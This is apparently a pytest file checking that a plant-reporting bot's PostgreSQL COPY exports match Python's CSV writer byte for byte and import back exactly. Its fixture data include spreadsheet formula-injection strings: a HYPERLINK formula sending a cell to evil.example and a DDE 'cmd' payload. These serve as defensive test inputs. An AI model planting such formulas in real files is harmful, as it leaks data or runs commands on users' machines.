"""PostgreSQL writes the export files itself (COPY): the same bytes as Python's CSV writer for
hostile text, instants on both sides of a DST change, voided rows, sites in different zones and
issues moved to a status more than once; and `prodbot import` reads them back."""

import io
import os
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import delete, select
from sqlalchemy.orm import Session, sessionmaker

from bot.db import session_scope
from bot.transfer import export_copy
from bot.transfer.export import KINDS, Kind, file_name, write_csv, write_csv_python
from bot.transfer.importer import import_csv_file
from models import DelayEntry, Issue, IssueEvent, Line, OutputEntry, Shift
from models.enums import IssueCategory, IssueStatus, Severity
from tests.db_rows import load_plant
from tests.transfer.test_export_files import HILLSIDE

pytestmark = pytest.mark.skipif(
    not os.environ.get("DATABASE_URL", "").startswith("postgresql"),
    reason="COPY is PostgreSQL's: on SQLite write_csv is write_csv_python itself",
)

FIRST, LAST = date(2026, 3, 1), date(2026, 10, 31)
NOTES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "'=x",
    "''@y",
    "-2+3",
    "\tlooks blank",
    "\r=1+1",
    "a, b and c",
    'caps "blue"',
    "two\nlines",
    "two\r\nlines, CRLF",
    '"\nquoted start',
    'ends in a quote"',
    "line\u2028separator\u2029paragraph\x85next",
    "  spaces either side  ",
    " ",
    "",
    None,
    "'tis fine",
    "\\. alone",
]
# Berlin goes to summer time at 01:00 UTC on 29 March and back at 01:00 UTC on 25 October.
INSTANTS = [
    datetime(2026, 3, 29, 0, 59, 59, 999999, tzinfo=UTC),
    datetime(2026, 3, 29, 1, 0, tzinfo=UTC),
    datetime(2026, 3, 29, 1, 0, 0, 1, tzinfo=UTC),
    datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
    datetime(2026, 10, 25, 1, 30, 0, 500000, tzinfo=UTC),
]
NAMES = {"U0LEAD0001": "=cmd|' /C calc'!A0", "U0MGR00001": 'Mo, "the" manager', "U0X": ""}


@pytest.fixture
def records(loaded_plant: None, session_factory: sessionmaker[Session]) -> None:
    """For each note, on each line of Riverside (Berlin) and Hillside (New York): an entry,
    a delay (every other one voided) and an issue, acknowledged twice and resolved twice."""
    load_plant(session_factory, HILLSIDE)
    with session_scope(session_factory) as session:
        lines = session.scalars(select(Line).order_by(Line.id)).all()
        for line in lines:
            shift = session.scalars(select(Shift).where(Shift.site_id == line.site_id)).first()
            assert shift is not None
            for n, note in enumerate(NOTES):
                at = INSTANTS[n % len(INSTANTS)]
                where = {
                    "line_id": line.id,
                    "shift_id": shift.id,
                    "production_date": at.date() - timedelta(days=n % 2),
                }
                voided = {"voided_at": at + timedelta(hours=1), "voided_by": "U0MGR00001"}
                session.add(
                    OutputEntry(
                        **where, good=n, scrap=n % 3, scrap_reason=None, note=note,
                        reported_by="U0LEAD0001", reported_at=at,
                    )
                )  # fmt: skip
                session.add(
                    DelayEntry(
                        **where, minutes=n + 1, reason="material", note=note,
                        reported_by="U0X" if n % 4 == 0 else "U0LEAD0001", reported_at=at,
                        **(voided | {"void_reason": note} if n % 2 else {}),
                    )
                )  # fmt: skip
                issue = Issue(
                    **where,
                    severity=list(Severity)[n % 4],
                    category=None if n % 3 == 0 else IssueCategory.NEAR_MISS,
                    text=note or "-",
                    raised_by="U0LEAD0001",
                    raised_at=at,
                    status=IssueStatus.RESOLVED if n % 2 else IssueStatus.OPEN,
                )
                session.add(issue)
                session.flush()
                if n % 2:
                    for k, (status, by) in enumerate(
                        [
                            (IssueStatus.RESOLVED, "U0LEAD0001"),
                            (IssueStatus.ACKNOWLEDGED, "U0MGR00001"),
                            (IssueStatus.ACKNOWLEDGED, "U0LEAD0001"),
                            (IssueStatus.RESOLVED, "U0MGR00001"),
                        ]
                    ):
                        session.add(
                            IssueEvent(
                                issue_id=issue.id,
                                status=status,
                                by=by,
                                at=at + timedelta(minutes=10 + k % 2, microseconds=k),
                                note=note if k == 0 else "later, not this one",
                            )
                        )


def _csv(
    session: Session, kind: Kind, *, copy: bool, lines: frozenset[int] | None, names: bool
) -> tuple[bytes, int]:
    out = io.StringIO(newline="")
    write = write_csv if copy else write_csv_python
    rows = write(
        session, kind, out, date_from=FIRST, date_to=LAST, line_ids=lines,
        names=NAMES if names else None,
    )  # fmt: skip
    return out.getvalue().encode("utf-8"), rows


@pytest.mark.usefixtures("records")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("subset", ["all", "L1", "H1 and press2", "none"])
@pytest.mark.parametrize("names", [False, True])
def test_copy_writes_the_same_bytes_as_pythons_csv_writer(
    session_factory: sessionmaker[Session], kind: Kind, subset: str, names: bool
) -> None:
    with session_factory() as session:
        codes = {"all": None, "L1": ["L1"], "H1 and press2": ["H1", "press2"], "none": []}[subset]
        lines = None
        if codes is not None:
            lines = frozenset(session.scalars(select(Line.id).where(Line.code.in_(codes))))
        by_copy = _csv(session, kind, copy=True, lines=lines, names=names)
        by_python = _csv(session, kind, copy=False, lines=lines, names=names)

    assert by_copy == by_python
    if subset == "all":
        assert by_copy[1] == 3 * len(NOTES)
        assert by_copy[0].count(b"\r\n") > by_copy[1]  # rows end in CRLF; some cells have one
        if kind == "issues":  # the first event of each status by time, not the last added
            assert b"resolved" in by_copy[0] and b"later, not this one" not in by_copy[0]


@pytest.mark.usefixtures("records")
def test_the_copy_files_import_back_exactly(
    tmp_path: Path, session_factory: sessionmaker[Session]
) -> None:
    paths = {}
    for kind in ("entries", "delays"):
        paths[kind] = tmp_path / file_name(kind, FIRST, LAST)
        with session_factory() as session, paths[kind].open("w", newline="", encoding="utf-8") as f:
            write_csv(session, kind, f, date_from=FIRST, date_to=LAST, line_ids=None)
    with session_factory() as session:  # the importer reads a blank note as none, as ever
        before = [
            tuple(None if isinstance(v, str) and not v.strip() else v for v in row)
            for row in _records(session)
        ]
    with session_scope(session_factory) as session:
        session.execute(delete(OutputEntry))
        session.execute(delete(DelayEntry))

    for kind in ("entries", "delays"):
        report = import_csv_file(paths[kind], session_factory=session_factory, actor="U0ADMIN001")
        assert report.added == 3 * len(NOTES)

    with session_factory() as session:
        assert _records(session) == before


def _records(session: Session) -> list[tuple[object, ...]]:
    """Every entry and delay as the file has it, without its id."""
    entries = session.execute(
        select(
            OutputEntry.line_id, OutputEntry.good, OutputEntry.scrap, OutputEntry.note,
            OutputEntry.reported_by, OutputEntry.reported_at,
        ).order_by(OutputEntry.line_id, OutputEntry.good)
    )  # fmt: skip
    delays = session.execute(
        select(
            DelayEntry.line_id, DelayEntry.minutes, DelayEntry.note, DelayEntry.reported_at,
            DelayEntry.voided_at, DelayEntry.voided_by, DelayEntry.void_reason,
        ).order_by(DelayEntry.line_id, DelayEntry.minutes)
    )  # fmt: skip
    return [tuple(row) for row in [*entries, *delays]]


@pytest.mark.usefixtures("records")
@pytest.mark.parametrize("kind", KINDS)
def test_a_range_copied_a_day_at_a_time_is_the_same_file(
    session_factory: sessionmaker[Session], kind: Kind, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A long range is copied in pieces, each inside the statement timeout: one header, the rows
    in the same order, the same bytes."""
    monkeypatch.setattr(export_copy, "CHUNK_DAYS", 1)
    with session_factory() as session:
        by_copy = _csv(session, kind, copy=True, lines=None, names=True)
        by_python = _csv(session, kind, copy=False, lines=None, names=True)

    assert by_copy == by_python
    assert by_copy[0].count(b"production_date") == 1
